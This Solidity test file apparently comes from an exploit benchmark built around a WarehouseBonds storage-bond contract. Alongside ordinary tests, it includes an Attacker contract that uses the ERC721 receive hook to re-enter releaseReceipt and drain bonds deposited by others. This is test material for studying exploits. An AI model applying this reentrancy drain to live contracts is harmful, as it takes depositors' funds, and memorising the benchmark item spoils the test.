// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC721/ERC721.sol";
import "./WarehouseBonds.sol";

// assay-canary-b287edf4-3b2e-43d0-8f5f-8e0d2a4e99ff

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Money is ERC20("Money", "MON") {
    address private maker = msg.sender;

    function mint(address receiver, uint256 amount) external {
        require(msg.sender == maker, "Only the maker mints.");
        _mint(receiver, amount);
    }
}

contract Receipts is ERC721("Receipts", "REC") {
    address private maker = msg.sender;

    function mint(address receiver, uint256 id) external {
        require(msg.sender == maker, "Only the maker mints.");
        _mint(receiver, id);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_800_000_000;

    Money private money;
    Receipts private receipts;
    WarehouseBonds private bonds;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        money = new Money();
        receipts = new Receipts();
        bonds = new WarehouseBonds(money, receipts, 1e18);
        leave(ANA, 1, 200e18);
        leave(BEN, 2, 60e18);
        mallory = new Attacker(bonds, money, receipts);
        money.mint(address(mallory), 100e18);
        receipts.mint(address(mallory), 3);
    }

    function leave(address depositor, uint256 id, uint256 bond) private {
        money.mint(depositor, bond);
        receipts.mint(depositor, id);
        vm.startPrank(depositor);
        money.approve(address(bonds), bond);
        receipts.approve(address(bonds), id);
        bonds.leaveReceipt(id, bond);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(receipts.ownerOf(1) == address(bonds) && money.balanceOf(address(bonds)) == 260e18, "left");
        vm.warp(START + 10 days);
        vm.prank(ANA);
        bonds.releaseReceipt(1);
        require(receipts.ownerOf(1) == ANA && money.balanceOf(ANA) == 189e18 && bonds.chargesDue() == 11e18, "released");
        vm.startPrank(ANA);
        money.approve(address(bonds), 189e18);
        bonds.raiseBond(2, 5e18);
        receipts.approve(address(bonds), 1);
        bonds.leaveReceipt(1, 30e18);
        vm.stopPrank();
        bonds.collectCharges();
        require(money.balanceOf(address(this)) == 11e18 && bonds.chargesDue() == 0, "collected");
        vm.warp(START + 64 days);
        bonds.seizeGoods(2);
        require(receipts.ownerOf(2) == address(this) && bonds.chargesDue() == 65e18, "seized");
        vm.prank(ANA);
        bonds.releaseReceipt(1);
        require(money.balanceOf(ANA) == 154e18 && receipts.ownerOf(1) == ANA && bonds.chargesDue() == 95e18, "nothing is left of the bond");
        bonds.collectCharges();
        require(money.balanceOf(address(bonds)) == 0, "all collected");
    }

    function test_RefusesDepositors() public {
        vm.expectRevert("Storage cannot be free.");
        new WarehouseBonds(money, receipts, 0);
        receipts.mint(ANA, 4);
        vm.startPrank(ANA);
        vm.expectRevert("The bond is too small.");
        bonds.leaveReceipt(4, 30e18 - 1);
        vm.expectRevert("The receipt is not here.");
        bonds.raiseBond(4, 0);
        vm.expectRevert("The caller did not leave this receipt.");
        bonds.releaseReceipt(2);
        vm.expectRevert("Only the keeper seizes goods.");
        bonds.seizeGoods(1);
        vm.stopPrank();
    }

    function test_RefusesKeepers() public {
        vm.expectRevert("The receipt is not here.");
        bonds.seizeGoods(4);
        vm.warp(START + 59 days - 1);
        vm.expectRevert("The bond is not used up.");
        bonds.seizeGoods(2);
        vm.warp(START + 59 days);
        bonds.seizeGoods(2);
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(money.balanceOf(address(mallory)) >= 250e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(bonds);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function token() public view returns (address) {
        return address(money);
    }
}

contract Attacker {
    WarehouseBonds private bonds;
    IERC20 private money;
    IERC721 private receipts;
    uint256 private rounds;

    constructor(WarehouseBonds b, IERC20 m, IERC721 r) {
        bonds = b;
        money = m;
        receipts = r;
    }

    function run() external {
        money.approve(address(bonds), 100e18);
        receipts.approve(address(bonds), 3);
        bonds.leaveReceipt(3, 100e18);
        bonds.releaseReceipt(3);
    }

    function onERC721Received(address, address, uint256 id, bytes calldata) external returns (bytes4) {
        if (rounds < 2) {
            rounds++;
            receipts.transferFrom(address(this), address(bonds), id);
            bonds.releaseReceipt(id);
        }
        return this.onERC721Received.selector;
    }
}
